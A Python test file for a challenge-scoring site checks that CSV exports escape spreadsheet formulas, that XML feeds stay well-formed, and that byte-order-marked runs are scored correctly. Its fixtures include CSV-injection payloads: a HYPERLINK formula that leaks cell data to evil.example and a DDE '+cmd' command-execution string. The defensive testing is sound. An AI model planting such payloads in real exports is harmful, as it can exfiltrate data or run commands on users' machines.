"""What readers open outside the site is safe whatever participants and organizers wrote:
no CSV cell a spreadsheet would evaluate (:mod:`scorer.formats.spreadsheet`), only
well-formed XML 1.0 (:func:`scorer.site.escaping.xml_text`), and a run saved with a UTF-8
byte order mark read the same way by the check, the scoring and its run page.

The demo is built with hostile team and system names, a control character and U+FFFF in
the challenge's and a batch's names, and three runs (Task B, Task A, mcqa) saved with a BOM.
"""
from __future__ import annotations

import csv
import io
import json
import re
import xml.dom.minidom
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from pathlib import Path

import jsonschema_rs
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from scorer.cli import main
from scorer.evaluation import evaluate
from scorer.formats.challenge import load_challenge
from scorer.formats.spreadsheet import FORMULA_STARTS, spreadsheet_cell
from scorer.schemas import load_schema
from scorer.site.answer_files import explain_run, load_basis
from scorer.site.feeds import ATOM, Published, atom_feed
from scorer.site.results import Ranking, Table
from tests.test_site import DEMO, copy_demo

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
SYSTEMS = {"Dense retrieval + reader": "+cmd|' /C calc'!A0", "Hybrid BM25 + dense": "-2+3", "Small reader": "@SUM(1)"}
BOM = "\ufeff".encode()
#: Runs saved with a byte order mark: (path, task, the gold it is scored against).
BOM_RUNS = [("submissions/taskB/batch1/phaseA/helix/helix-dense.json", "phaseA", "gold/taskb/batch1/phaseA.json"),
            ("submissions/taskA/batch1/week1/northbridge/nb-flat.json", "taskA", "gold/taska/batch1/week1.json"),
            ("submissions/mcqa/batch1/helix/helix-dense.json", "mcqa", "gold/mcqa/batch1/gold.json")]


def toml_basic(text: str) -> str:
    """``text`` as a TOML basic string."""
    return json.dumps(text)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """The demo with hostile names and descriptions and three BOM runs, built."""
    repo = copy_demo(tmp_path_factory.mktemp("hostile") / "repo", DEMO + ("testsets",))
    team = repo / "teams" / "helix.toml"
    text = team.read_text(encoding="utf-8").replace('"Helix Retrieval Group"', toml_basic(HYPERLINK))
    for name, evil in SYSTEMS.items():
        text = text.replace(toml_basic(name), toml_basic(evil))
    tab, carriage_return = "description = " + toml_basic("\t=1+1"), "description = " + toml_basic("\r-2+3")
    text = re.sub(r'description = "[^"\n]*"', lambda m: tab, text, count=1)
    text = re.sub(r'description = "BM25[^"\n]*"', lambda m: carriage_return, text)
    team.write_text(text, encoding="utf-8")
    challenge = repo / "challenge.toml"
    config = challenge.read_text(encoding="utf-8").replace('name = "BioASQ Demo Challenge (synthetic)"',
                                                           'name = "Demo \\uffff\\u0001 challenge"')
    challenge.write_text(config.replace('name = "Batch 1"', 'name = "Batch \\uffff 1"', 1), encoding="utf-8")
    for path, _, _ in BOM_RUNS:
        (repo / path).write_bytes(BOM + (repo / path).read_bytes())
    assert main(["build", "--repo", str(repo), "--jobs", "1"]) == 0
    return repo


# --- CSV ------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    (HYPERLINK, "'" + HYPERLINK), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("- x", "'- x"),
    ("-0.25", "-0.25"), ("-1e-05", "-1e-05"), ("-3", "-3"), ("a=b", "a=b"), ("", ""),
    (-0.25, -0.25), (None, None), (True, True)])
def test_a_cell_a_spreadsheet_would_evaluate_starts_with_an_apostrophe(value, cell):
    assert spreadsheet_cell(value) == cell


def test_no_text_cell_of_any_csv_of_the_site_starts_with_a_formula_character(hostile):
    files = sorted((hostile / "_site").rglob("*.csv"))
    assert len(files) > 100
    seen, negative = set(), 0
    for path in files:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                seen.update(evil for evil in (HYPERLINK, *SYSTEMS.values()) if cell == "'" + evil)
                if cell[:1] in FORMULA_STARTS:
                    assert re.fullmatch(r"-[0-9.]+(e-?[0-9]+)?", cell), (path.name, cell)  # a number
                    negative += 1
    assert seen == {HYPERLINK, *SYSTEMS.values()}  # every hostile name is in some CSV, as text
    assert negative > 0  # negative numbers stay numbers


# --- XML ------------------------------------------------------------------------------------

def test_every_xml_of_the_site_is_well_formed(hostile):
    files = sorted((hostile / "_site").rglob("*.xml")) + sorted((hostile / "_site").rglob("*.svg"))
    assert hostile / "_site" / "feed.xml" in files
    for path in files:
        xml.dom.minidom.parse(str(path))  # expat: strict, raises on any character XML 1.0 does not allow
    feed = ET.parse(hostile / "_site" / "feed.xml").getroot()
    assert feed.find(f"{{{ATOM}}}title").text == "Demo \ufffd\ufffd challenge: results"
    assert any("Batch \ufffd 1" in e.find(f"{{{ATOM}}}title").text for e in feed.iter(f"{{{ATOM}}}entry"))


_NAME = load_schema("team.schema.json")["$defs"]["name"]
_NAME_CHECK = jsonschema_rs.validator_for(_NAME)


def _accepted(name: str) -> bool:
    """Whether the schema accepts team name ``name`` (one with a lone surrogate, which no
    TOML file can hold and the check cannot take, counts as not generated)."""
    try:
        return _NAME_CHECK.is_valid(name)
    except ValueError:
        return False


class _Names:
    def __init__(self, name: str):
        self.name = name

    def system(self, key: str) -> str:
        return self.name


#: Any character, surrogates included, and often one that XML 1.0 does not allow but the schema does.
_CHARACTERS = st.one_of(st.characters(exclude_categories=()), st.sampled_from("\ufffe\uffff\ud800\udfff"))


@settings(max_examples=300, deadline=None)
@example("Team \uffff")
@example("\ud800 team")
@given(st.text(_CHARACTERS, min_size=1, max_size=100).filter(_accepted))
def test_the_feed_is_well_formed_for_any_name_the_schema_accepts(name):
    records = ({"system": "t/a", "rank": 1, "ranked": True},)
    ranking = Ranking(name="phaseA", rule="", components=(), records=records, significance={}, best_per_team=())
    table = Table(task="taskB", batch="b1", phase="phaseA", name=name, rows={}, rankings={"phaseA": ranking})
    item = Published(table, name, "taskB/b1/phaseA.html", datetime(2026, 1, 1, tzinfo=UTC))
    document = atom_feed(name, [item], _Names(name))
    xml.dom.minidom.parseString(document)
    summary = ET.fromstring(document).find(f"{{{ATOM}}}entry/{{{ATOM}}}summary").text
    kept = "".join(c if c in "\t\n\r" or " " <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd" or c >= "\U00010000"
                   else "\ufffd" for c in name)
    assert summary.endswith(f"1. {kept}".replace("\r\n", "\n").replace("\r", "\n"))


# --- a run with a byte order mark -----------------------------------------------------------

@pytest.mark.parametrize("path, task, gold", BOM_RUNS)
def test_a_run_with_a_byte_order_mark_is_validated_scored_and_shown(hostile, path, task, gold, tmp_path):
    run = hostile / path
    assert run.read_bytes().startswith(BOM)
    assert main(["validate", str(run), "--task", task]) == 0
    plain = tmp_path / "plain.json"
    plain.write_bytes(run.read_bytes()[len(BOM):])
    result = json.loads((hostile / "results" / "runs" / path.removeprefix("submissions/")).read_text(encoding="utf-8"))
    assert result["status"] == "scored"
    options = {"hierarchy": str(hostile / "gold/mesh/hierarchy.txt")} if task == "taskA" else {}
    expected = evaluate(str(hostile / gold), str(plain), task=task, **options).measures
    stored = {m: float("nan") if v is None else v for m, v in result["measures"].items()}  # NaN is stored as null
    assert {m: stored[m] for m in expected} == pytest.approx(expected, nan_ok=True)
    challenge = load_challenge(hostile)
    parts = path.split("/")
    phase = "run" if parts[1] == "mcqa" else parts[3]
    basis = load_basis(challenge, parts[1], parts[2], phase)
    shown = explain_run(basis, run, result)
    assert shown and shown == explain_run(basis, plain, result)  # the same as without the mark
    page_path = path.replace("submissions/", "runs/").replace("/batch1/helix/", "/batch1/run/helix/")  # mcqa: phase "run"
    page = (hostile / "_site" / page_path).with_suffix(".html").read_text(encoding="utf-8")
    assert "could not be read" not in page
